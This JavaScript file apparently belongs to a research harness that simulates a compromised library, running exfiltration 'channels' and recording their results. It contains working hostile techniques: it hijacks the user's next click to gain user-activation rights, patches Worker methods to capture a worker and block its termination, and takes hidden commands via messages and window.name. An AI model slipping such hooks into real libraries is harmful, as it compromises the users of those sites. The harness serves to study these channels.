// What a compromised library would run: it stands at the beginning of the page's script and of its workers'
// scripts, and waits to be told what to attack.
import { aim } from "./aim.js";
import { CHANNELS } from "./index.js";
import { repeat } from "./rtc.js";

/** Milliseconds after which an attack has had its time. */
const PATIENCE = 6_000;

/** Frames that repeat a script find it by this word. */
const stolenGenome = { results: {} };
globalThis.stolenGenome = stolenGenome;

async function attempt({ id, run, there }, settings) {
  try {
    if (there && !there()) return "absent";
    const late = new Promise((resolve) => setTimeout(resolve, PATIENCE, "no end"));
    const seen = await Promise.race([run(aim(id, settings)), late]);
    return `ended: ${String(seen)}`.slice(0, 160);
  } catch (error) {
    return `threw: ${error?.name}: ${String(error?.message).slice(0, 120)}`;
  }
}

/** Runs channels, those of a group at the same time; `results` has what each saw. */
async function run(ids, settings) {
  const wanted = CHANNELS.filter(({ id }) => ids.includes(id));
  for (const group of new Set(wanted.map(({ group }) => group))) {
    const members = wanted.filter((channel) => channel.group === group);
    const attempts = members.map(async (channel) => {
      stolenGenome.results[channel.id] = await attempt(channel, settings);
    });
    await Promise.all(attempts);
  }
  return stolenGenome.results;
}

/** In a page: attacks begin with the next click, which gives them all that a person's click gives. */
function armed(ids, settings) {
  stolenGenome.done = false;
  const begin = (event) => {
    event.preventDefault();
    event.stopImmediatePropagation();
    removeEventListener("click", begin, true);
    void run(ids, settings).then(() => (stolenGenome.done = true));
  };
  addEventListener("click", begin, true);
}

/** The first worker that the page speaks to is kept: its script has these attacks in it as well. */
function keepWorker() {
  const { postMessage, terminate } = Worker.prototype;
  Worker.prototype.postMessage = function (...given) {
    stolenGenome.worker ??= this;
    return Reflect.apply(postMessage, this, given);
  };
  Worker.prototype.terminate = function () {
    if (this !== stolenGenome.worker) Reflect.apply(terminate, this, []);
  };
  stolenGenome.inWorker = (ids, settings) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => Object.assign(stolenGenome, { workerResults: data });
    const message = { stolenGenome: { ids, settings } };
    Reflect.apply(postMessage, stolenGenome.worker, [message, [port2]]);
  };
}

function obeyPage() {
  addEventListener("message", (event) => {
    const asked = event.data?.stolenGenome;
    if (!asked) return;
    event.stopImmediatePropagation();
    void run(asked.ids, asked.settings).then((results) => event.ports[0].postMessage(results));
  });
}

/** In a frame that repeats the script: its name says what to do. */
function repeated() {
  const asked = globalThis.name?.startsWith?.('{"repeat"') && JSON.parse(globalThis.name);
  if (asked) void repeat(aim(asked.repeat, asked.settings));
}

if (typeof document === "undefined") obeyPage();
else {
  stolenGenome.armed = armed;
  keepWorker();
  repeated();
}
